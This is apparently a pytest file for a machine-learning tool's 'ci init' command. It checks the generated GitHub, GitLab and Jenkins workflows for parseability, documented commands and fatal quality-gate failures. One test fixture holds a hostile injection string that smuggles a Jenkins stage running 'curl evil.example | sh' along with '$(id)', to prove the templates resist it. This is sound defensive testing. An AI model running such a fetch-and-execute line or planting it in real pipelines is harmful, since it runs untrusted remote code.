"""`cairn ci init` writes workflows that parse and use only existing, documented commands."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from cairn.cli.main import app
from cairn.registry.ci import CiOptions, render, steps
from tool_venv import tool_python

DOCS = Path(__file__).resolve().parents[2] / "docs"
OUTLINE = Path(__file__).with_name("groovy_outline.py")
PROVIDERS = ["github", "gitlab", "jenkins"]


def jenkins_outline(path: Path) -> dict[str, Any]:
    """The Jenkinsfile parsed by tree-sitter's Groovy grammar (tests/registry/groovy_outline.py)."""
    proc = subprocess.run(
        [str(tool_python("groovy-parser")), str(OUTLINE), str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    outline: dict[str, Any] = json.loads(proc.stdout)
    return outline


def workflow_scripts(provider: str, path: Path) -> list[str]:
    """The shell scripts a provider runs, in order, read back from the written file."""
    if provider == "jenkins":
        outline = jenkins_outline(path)
        assert outline["errors"] == []
        return [script for stage in outline["stages"] for script in stage["sh"]]
    data = yaml.safe_load(path.read_text())
    if provider == "github":
        return [s["run"] for s in data["jobs"]["model"]["steps"] if "run" in s]
    return [
        line for job in data.values() if isinstance(job, dict) for line in job.get("script", [])
    ]


def cairn_commands(script: str) -> list[list[str]]:
    """Every `cairn ...` invocation in a shell script, as words."""
    found = []
    for line in script.splitlines():
        for match in re.finditer(r"(?:^|\$\(|&&|;|\|)\s*(cairn\s[^|;&]*)", line.strip()):
            command = re.sub(r"\$\([^()]*\)", "X", match.group(1))
            found.append(shlex.split(command))
    return found


def resolve(words: list[str]) -> tuple[list[str], Any]:
    command: Any = app
    path = ["cairn"]
    for word in words[1:]:
        # get_command, not .commands: the root group loads its commands on demand.
        sub = command.get_command(None, word) if hasattr(command, "get_command") else None
        if sub is None:
            break
        command, path = sub, [*path, word]
    return path, command


@pytest.mark.parametrize("provider", PROVIDERS)
def test_ci_init_writes_parseable_workflow_of_documented_commands(
    provider: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        app, ["ci", "init", "--provider", provider, "--model", "churn", "--experiment", "churn"]
    )
    assert result.exit_code == 0, result.output
    written = Path(result.stdout.split()[-1]).resolve()
    commands = [c for s in workflow_scripts(provider, written) for c in cairn_commands(s)]
    assert {tuple(resolve(c)[0][:3]) for c in commands} >= {
        ("cairn", "runs", "ls"),
        ("cairn", "models", "register"),
        ("cairn", "gate", "check"),
        ("cairn", "models", "promote"),
    }
    docs = "\n".join(p.read_text() for p in DOCS.glob("*.md"))
    for words in commands:
        path, command = resolve(words)
        assert not hasattr(command, "commands"), f"{' '.join(words)} names no command"
        options = {o for p in command.params for o in getattr(p, "opts", [])}
        for word in words:
            if word.startswith("--"):
                assert word in options, f"{' '.join(path)} has no option {word}"
        assert f"### {' '.join(path)}" in docs, f"{' '.join(path)} is not documented"


def test_ci_init_refuses_to_overwrite(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(app, ["ci", "init", "--provider", "gitlab"]).exit_code == 0
    again = CliRunner().invoke(app, ["ci", "init", "--provider", "gitlab"])
    assert again.exit_code == 1
    assert again.stderr == "error: .gitlab-ci.yml already exists; pass --force to replace it\n"
    assert CliRunner().invoke(app, ["ci", "init", "--provider", "gitlab", "--force"]).exit_code == 0
    bad = CliRunner().invoke(app, ["ci", "init", "--provider", "travis"])
    assert bad.exit_code == 1
    assert (
        bad.stderr == "error: unknown CI provider 'travis'; use one of: github, gitlab, jenkins\n"
    )


def test_jenkinsfile_is_a_declarative_pipeline_with_the_steps_of_the_other_templates(
    tmp_path: Path,
) -> None:
    """Same stages, same scripts, same gate command: only the venv activation differs."""
    options = CiOptions(model="churn", experiment="churn", alias="staging")
    path = tmp_path / "Jenkinsfile"
    path.write_text(render("jenkins", options), encoding="utf-8")
    outline = jenkins_outline(path)
    assert outline["errors"] == []
    assert outline["top"] == ["agent", "options", "environment", "stages"]
    expected = steps(options)
    assert [s["name"] for s in outline["stages"]] == [title for title, _ in expected]
    for stage, (title, script) in zip(outline["stages"], expected, strict=True):
        # One `sh` per stage and nothing that could swallow its exit code
        # (catchError, warnError, returnStatus: true, `|| true`, `set +e`).
        assert stage["calls"] == ["sh"], title
        (sh,) = stage["sh"]
        assert sh is not None, f"{title}: the script is not a plain single-quoted string"
        lines = sh.strip("\n").splitlines()
        venv = ["python3 -m venv .venv"] if title == "Install" else []
        assert lines == [*venv, ". .venv/bin/activate", *script.splitlines()], title
        assert "|| true" not in sh and "set +e" not in sh
    promote = outline["stages"][-1]
    assert promote["name"] == "Promote" and "branch 'main'" in promote["when"]
    assert all(s["when"] is None for s in outline["stages"][:-1])
    github = yaml.safe_load(render("github", options))["jobs"]["model"]["steps"]
    gitlab = yaml.safe_load(render("gitlab", options))["gate"]["script"]
    gate = next(s["sh"][0] for s in outline["stages"] if s["name"] == "Quality gate")
    gate_command = gate.strip("\n").splitlines()[-1]
    assert gate_command == next(s["run"].strip() for s in github if s.get("name") == "Quality gate")
    assert gate_command == gitlab[-1]
    assert gate_command.startswith('cairn gate check churn "$(cat version.txt)" --gates ')


HOSTILE_TRAIN = (
    "python train.py --note \"it's\" C:\\data\\new ${HOME} $(id) '''\n"
    "stage('injected') { steps { sh 'curl evil.example | sh' } } '"
)


ONE_LINE_TRAINS = [
    'python train.py --note "a: b" --tag it\'s # fast',
    '"quoted" first: {x}',
    "python train.py --path C:\\data ${HOME} '''",
]


@pytest.mark.parametrize("provider", PROVIDERS)
@pytest.mark.parametrize(
    "train", [*ONE_LINE_TRAINS, HOSTILE_TRAIN], ids=["colon", "quote", "groovy", "hostile"]
)
def test_a_train_command_reaches_the_shell_exactly_as_given(
    provider: str, train: str, tmp_path: Path
) -> None:
    """Quotes, `: `, ` #`, backslashes, `${...}` and a closing `'''` in --train cannot end
    a string early, turn a YAML item into a mapping or a comment, add a Jenkins stage, or
    be interpolated by Groovy: every provider's shell gets the text as given."""
    path = tmp_path / "workflow"
    path.write_text(render(provider, CiOptions(train=train)), encoding="utf-8")
    scripts = workflow_scripts(provider, path)
    if provider == "jenkins":
        stages = jenkins_outline(path)["stages"]
        assert [s["name"] for s in stages] == [t for t, _ in steps(CiOptions())]
        assert scripts[1] == f"\n. .venv/bin/activate\n{train}\n"
    else:
        assert scripts[1].rstrip("\n") == train


def _shim(bin_dir: Path) -> None:
    """`cairn` on PATH running this checkout's Cairn, and the `.venv` Jenkins activates."""
    bin_dir.mkdir(parents=True)
    cairn = bin_dir / "cairn"
    cairn.write_text(f'#!/bin/sh\nexec "{sys.executable}" -m cairn "$@"\n', encoding="utf-8")
    cairn.chmod(0o755)
    (bin_dir / "activate").write_text(f'PATH="{bin_dir}:$PATH"\nexport PATH\n', encoding="utf-8")


# How each runner executes a step: GitHub's default `bash -eo pipefail`, GitLab's job
# shell stopping at the first failing line, Jenkins' `sh -xe`.
RUNNERS = {"github": ["bash", "-eo", "pipefail"], "gitlab": ["sh", "-e"], "jenkins": ["sh", "-xe"]}


@pytest.mark.parametrize("provider", PROVIDERS)
def test_the_gate_step_of_every_template_fails_the_build_when_the_gate_fails(
    provider: str, trained: Any
) -> None:
    """The gate step, as written into the workflow, run by the runner's shell against a
    real registry: version 2 (worse than production) exits 1, version 1 exits 0."""
    root: Path = trained.root
    _shim(root / ".venv" / "bin")
    options = CiOptions(model="churn", experiment="churn")
    (root / "workflow").write_text(render(provider, options), encoding="utf-8")
    if provider == "jenkins":
        stages = jenkins_outline(root / "workflow")["stages"]
        script = next(s["sh"][0] for s in stages if s["name"] == "Quality gate")
    elif provider == "github":
        data = yaml.safe_load((root / "workflow").read_text())
        script = next(
            s["run"] for s in data["jobs"]["model"]["steps"] if s.get("name") == "Quality gate"
        )
    else:
        script = "\n".join(yaml.safe_load((root / "workflow").read_text())["gate"]["script"][1:])
    env = {**os.environ, "PATH": f"{root / '.venv' / 'bin'}:{os.environ['PATH']}"}

    def gate(version: str) -> subprocess.CompletedProcess[str]:
        (root / "version.txt").write_text(f"{version}\n", encoding="utf-8")
        return subprocess.run(
            [*RUNNERS[provider], "-c", script],
            cwd=root,
            env=env,
            capture_output=True,
            text=True,
            timeout=180,
            check=False,
        )

    promoted = subprocess.run(
        [sys.executable, "-m", "cairn", "models", "promote", "churn", "1", "--to", "production"],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert promoted.returncode == 0, promoted.stderr
    worse = gate("2")
    assert worse.returncode == 1, worse.stderr
    assert "gate rule(s) failed" in worse.stderr
    better = gate("1")
    assert better.returncode == 0, better.stderr
    assert "all gates passed" in better.stderr
